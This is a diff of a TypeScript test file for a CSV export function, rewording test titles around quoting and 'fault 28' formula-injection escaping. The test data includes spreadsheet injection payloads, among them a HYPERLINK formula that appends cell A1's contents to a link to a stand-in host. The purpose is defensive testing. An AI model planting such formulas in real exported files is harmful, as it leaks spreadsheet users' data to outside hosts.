@@ -5,17 +5,17 @@ import { formatCsv, unescapeCell } from './csv.ts';
 const cellsOf = (text: string): string[][] => parse(text, { bom: true });
 
 describe('formatCsv', () => {
-  test('writes RFC 4180 with a byte order mark, and quotes what needs it', () => {
+  test('writes RFC 4180 with a byte order mark, and quotes where needed', () => {
     const text = formatCsv(['name', 'price'], [['Elise "S", 2005', 48_500.5]]);
     expect(text).toBe('\ufeffname,price\r\n"Elise ""S"", 2005",48500.5\r\n');
   });
 
-  test('line breaks, other separators and blanks at the ends stay in their cell', () => {
+  test('line breaks, other separators, and leading and trailing spaces stay in their cell', () => {
     const row = ['one\r\ntwo', 'a;b', ' padded ', '', 'Zürich 🚗'];
     expect(cellsOf(formatCsv(['a', 'b', 'c', 'd', 'e'], [row]))[1]).toEqual(row);
   });
 
-  test('nothing is an empty cell, and flags are words', () => {
+  test('null is an empty cell, and flags are words', () => {
     expect(formatCsv(['a', 'b', 'c'], [[null, true, false]])).toBe('\ufeffa,b,c\r\n,true,false\r\n');
   });
 
@@ -32,7 +32,7 @@ describe('formatCsv', () => {
     "''@x",
     '=HYPERLINK("https://x.example?"&A1,"a")',
   ];
-  test.each(formulas)('fault 28: %j is made harmless, and comes back as it was', (text) => {
+  test.each(formulas)('fault 28: %j is made harmless, and is read back unchanged', (text) => {
     const [, [cell] = []] = cellsOf(formatCsv(['name'], [[text]]));
     expect(cell).toBe(`'${text}`);
     expect(unescapeCell(cell ?? '')).toBe(text);
@@ -45,19 +45,19 @@ describe('formatCsv', () => {
     "hello; '=1;''@x",
     '\t=1',
     '\n- one\n- two|-three',
-  ])('fault 28: %j is harmless also where cells are split at something else', (text) => {
+  ])('fault 28: %j is harmless even if cells are split at another separator', (text) => {
     const written = formatCsv(['id', 'message'], [[7, text]]);
     expect(written.split(/[;|\t\r\n]/).filter((cell) => /^[\s"]*[=+\-@]/.test(cell))).toEqual([]);
     expect(unescapeCell(cellsOf(written)[1]?.[1] ?? '')).toBe(text);
   });
 
-  test('fault 28: a formula in the middle of a text is left alone', () => {
+  test('fault 28: a formula in the middle of a text is not changed', () => {
     expect(formatCsv(['a'], [['three - one = two; and more']])).toBe(
       '\ufeffa\r\n"three - one = two; and more"\r\n',
     );
   });
 
-  test('fault 28: a header is a cell like any other', () => {
+  test('fault 28: headers are treated like other cells', () => {
     expect(formatCsv(['=1'], [])).toBe("\ufeff'=1\r\n");
   });
 
